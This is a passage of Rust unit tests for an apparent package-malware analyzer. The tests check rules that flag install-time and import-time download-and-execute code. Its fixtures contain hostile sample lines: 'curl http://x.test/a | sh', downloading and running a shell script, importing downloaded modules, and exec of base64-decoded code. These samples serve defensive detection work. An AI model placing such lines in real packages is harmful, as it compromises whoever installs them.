        let src = "import subprocess\nwith open('/tmp/s.py', 'w') as f:\n    f.write('import subprocess, os\\n')\n    f.write('from urllib import request\\n')\n    f.write(\"request.urlretrieve('https://x.test/p.sh', '/tmp/p.sh')\\n\")\n    f.write(\"subprocess.call('bash /tmp/p.sh', shell=True)\\n\")\nsubprocess.call('python3 /tmp/s.py &', shell=True)\n";
        let files = [pf("p-1/p/__init__.py", src)];
        assert_eq!(
            hit(&a, &files, "DL-WRITE-EXEC").map(|h| h.0),
            Some(Some(Stage::Import))
        );
        // Reported at the first write.
        let r = a.analyze(&files, &[]);
        let f = r
            .findings
            .iter()
            .find(|f| f.rule == "DL-WRITE-EXEC")
            .unwrap();
        assert_eq!(f.line, 3);
        // The local file name urlretrieve writes to is not data sent over the network.
        let named = "import os, getpass, urllib.request\nurllib.request.urlretrieve('https://x.test/a.tgz', os.path.join('/home', getpass.getuser(), 'a.tgz'))\n";
        assert!(
            hit(
                &a,
                &[pf("p-1/p/__init__.py", named)],
                "EXFIL-SEND-COLLECTED"
            )
            .is_none()
        );
    }

    #[test]
    fn a_download_then_imported_is_drop_and_run() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let src = |then: &str| {
            format!(
                "import sys, os, tempfile, urllib.request\nd = tempfile.mkdtemp()\nurllib.request.urlretrieve('http://x.test/u.py', os.path.join(d, 'u.py'))\n{then}\n"
            )
        };
        let files = [pf(
            "p-1/p/__init__.py",
            &src("sys.path.insert(0, d)\nimport u"),
        )];
        assert!(hit(&a, &files, "DL-WRITE-EXEC").is_some());
        // A setup script putting its own folder on the path, with no download, is not.
        let setup = [pf(
            "p-1/setup.py",
            "import sys, os\nsys.path.insert(0, os.path.dirname(__file__))\nimport version\n",
        )];
        assert!(hit(&a, &setup, "DL-WRITE-EXEC").is_none());
        let only = [pf("p-1/p/__init__.py", &src("print(d)"))];
        assert!(hit(&a, &only, "DL-WRITE-EXEC").is_none());
    }

    #[test]
    fn decoded_code_run_from_a_function_weighs_like_the_top_level() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let py = [pf(
            "p-1/p/__init__.py",
            "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n",
        )];
        let js = [
            pf(
                "package/package.json",
                r#"{"name":"x","version":"1.0.0","main":"a.js"}"#,
            ),
            pf(
                "package/a.js",
                "module.exports = function () { return new Function(atob('cmV0dXJuIDE='))(); };\n",
            ),
        ];
        for (files, rule) in [(&py[..], "PY-EXEC-DECODED"), (&js[..], "JS-EVAL-DECODED")] {
            let (stage, weight) = hit(&a, files, rule).expect(rule);
            assert_eq!(stage, Some(Stage::Runtime), "{rule}");
            assert_eq!(weight, "12]", "{rule}");
        }
    }

    #[test]
    fn a_non_python_file_the_package_execs_is_analysed_as_code() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let init = pf(
            "p-1/p/__init__.py",
            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())\n",
        );
        let data = pf(
            "p-1/p/data.txt",
            "import os\nos.system('curl http://x.test/x | sh')\n",
        );
        let r = a.analyze(&[init.clone(), data.clone()], &[]);
        assert_eq!(r.verdict, Verdict::Malicious);
        let f = r
            .findings
            .iter()
            .find(|f| f.rule == "CMD-STAGED-EXEC")
            .unwrap();
        assert_eq!(
            (f.file.as_str(), f.stage),
            ("p-1/p/data.txt", Some(Stage::Import))
        );
        // The same text that nothing execs is data.
        let r = a.analyze(&[pf("p-1/p/__init__.py", "X = 1\n"), data], &[]);
        assert_eq!(r.verdict, Verdict::Benign);
    }

    #[test]
    fn score_is_the_sum_of_finding_weights() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let r = a.analyze(
            &[pf(
                "p-1/setup.py",
                "import os, subprocess\nos.system('curl http://x.test/a | sh')\nsubprocess.call('ls')\nsubprocess.call('ls')\nsubprocess.call('ls')\n",
            )],
            &[],
        );
        let sum: f64 = r
            .findings
            .iter()
            .map(|f| {
                let w = f.message.rsplit("[+").next().unwrap().trim_end_matches(']');
                w.parse::<f64>().unwrap()
            })
            .sum();
        assert!((sum - r.score).abs() < 0.01, "{sum} vs {}", r.score);
        assert_eq!(r.verdict, Verdict::Malicious);
        assert!(r.stages.contains(&Stage::Install));
    }

    #[test]
    fn a_file_seen_before_gives_the_same_findings_under_its_own_path() {
        // Long enough to be cached; the payload sits in a module imported by setup.py.
        let module = format!(
            "# {}\nimport os, base64\ndef go():\n    os.system('curl http://x.test/a | sh')\ngo()\n",
            "padding ".repeat(80)
        );
        let setup = "import evil\nfrom setuptools import setup\nsetup(name='p')\n";
        let package = |root: &str| {
            vec![
                pf(&format!("{root}/setup.py"), setup),
                pf(&format!("{root}/evil.py"), &module),
            ]
        };
        let shared = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let first = shared.analyze(&package("a-1.0"), &[]);
        let second = shared.analyze(&package("b-2.0"), &[]);
        let fresh = Analyzer::new(AnalyzerConfig::default())
            .unwrap()
            .analyze(&package("b-2.0"), &[]);
        assert!(first.findings.iter().any(|f| f.file == "a-1.0/evil.py"));
        assert!(!second.findings.is_empty());
        assert!(second.findings.iter().all(|f| !f.file.starts_with("a-1.0")));
        assert_eq!(
            serde_json::to_string(&second).unwrap(),
            serde_json::to_string(&fresh).unwrap()
        );
    }

    #[test]
    fn the_cache_keeps_apart_what_the_analysis_reads_of_the_path() {
        // pip calling its own entry point is fine; the same bytes elsewhere are not.
        let code = "# entry point of the command line tool, called when run as a module\nfrom pip._internal.cli.main import main\nmain()\n";
        let shared = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let rules = |r: &ScanReport| {
            r.findings
                .iter()
                .map(|f| f.rule.clone())
                .collect::<Vec<_>>()
        };
        let pip = shared.analyze(&[pf("pip-23.2/pip/__init__.py", code)], &[]);
        let other = shared.analyze(&[pf("evil-1.0/evil/__init__.py", code)], &[]);
        assert!(!rules(&pip).contains(&"CMD-INDIRECT-IMPORT".to_string()));
        assert!(rules(&other).contains(&"CMD-INDIRECT-IMPORT".to_string()));
    }

    #[test]
    fn weak_signals_alone_are_never_malicious() {
        let cfg = AnalyzerConfig {
            threshold_malicious: 2.0,
            threshold_suspicious: 1.0,
            ..AnalyzerConfig::default()
        };
        let a = Analyzer::new(cfg).unwrap();
        let weak = a.analyze(
            &[pf(
                "p-1/p/tool.py",
                "import subprocess, requests\ndef f():\n    subprocess.call(['git', 'status'])\n    return requests.get('https://example.test')\n",
            )],
            &[],
        );
        assert!(weak.score >= 1.0, "{}", weak.score);
        assert_eq!(weak.verdict, Verdict::Suspicious);
        let strong = a.analyze(
            &[pf(
                "p-1/setup.py",
                "import os\nos.system('curl -s http://x.test/a | sh')\n",
            )],
            &[],
        );
        assert_eq!(strong.verdict, Verdict::Malicious);
    }

    #[test]
    fn empty_package_is_benign() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let r = a.analyze(&[], &[]);
        assert_eq!(r.verdict, Verdict::Benign);
        assert_eq!(r.error, None);
        // Zero, not negative zero (which JSON and text output print as "-0.0").
        assert!(r.score == 0.0 && r.score.is_sign_positive(), "{}", r.score);
    }

    #[test]
    fn test_paths() {
        assert!(is_test_path("p/tests/x.py"));
        assert!(is_test_path("p/test_x.py"));
        assert!(!is_test_path("p/pkg/x.py"));
    }
}
